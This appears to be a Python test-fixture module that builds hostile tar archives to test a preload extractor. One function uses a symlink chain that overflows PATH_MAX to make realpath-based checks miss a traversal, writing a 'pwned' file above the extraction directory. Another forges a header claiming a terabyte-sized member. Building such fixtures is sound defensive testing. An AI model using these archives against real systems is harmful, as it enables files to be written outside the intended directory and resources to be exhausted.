"""Hostile preload tarballs, built for real (issue 16): the long symlink chain that pushes
``os.path.realpath`` past PATH_MAX (CVE-2025-4517's shape), and members of huge apparent size."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

STEPS = "abcdefghijklmnop"


def add(tar: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "", data: bytes = b"") -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def long_symlink_chain(path: Path, extract_dir_len: int, ups: int = 2, prefix: str = "amd") -> Path:
    """A GNU tar whose members, each harmless on its own reading, place ``<prefix>/escape/pwned``
    ``ups`` levels above the directory it is extracted in.

    ``a`` -> ``ddd…``, ``ddd…/b`` -> ``ddd…`` and so on: the chain is short as written but expands past
    PATH_MAX (``extract_dir_len`` is how long the extraction directory's own path is), where
    ``os.path.realpath`` stops resolving. ``a/b/…/p/lll…`` -> ``../..`` (16 levels: the prefix), and
    ``escape`` -> that link's path plus ``..`` * (ups + 1): a lexical reading of either stays inside."""
    limit = os.pathconf("/", "PC_PATH_MAX")
    comp = "d" * ((limit - extract_dir_len - len(prefix) - 2) // (len(STEPS) + 1))
    linkpath = "/".join(STEPS) + "/" + "l" * 254
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as tar:
        add(tar, prefix, tarfile.DIRTYPE)
        parent = prefix
        for step in STEPS:
            add(tar, f"{parent}/{comp}", tarfile.DIRTYPE)
            add(tar, f"{parent}/{step}", tarfile.SYMTYPE, comp)
            parent = f"{parent}/{comp}"
        add(tar, f"{prefix}/{linkpath}", tarfile.SYMTYPE, "/".join([".."] * len(STEPS)))
        add(tar, f"{prefix}/escape", tarfile.SYMTYPE, linkpath + "/.." * (ups + 2))
        add(tar, f"{prefix}/escape/pwned", data=b"pwned\n")
    return path


TIB = 1 << 40


def claimed_size(path: Path, size: int = TIB, name: str = "amd/libhuge.so") -> Path:
    """A small archive whose one member's header claims ``size`` bytes (the data is not there)."""
    header = tarfile.TarInfo(name)
    header.size = size
    block = header.tobuf(tarfile.GNU_FORMAT)
    with path.open("wb") as out:
        out.write(block)
        out.write(b"\x00" * 10240)
    return path
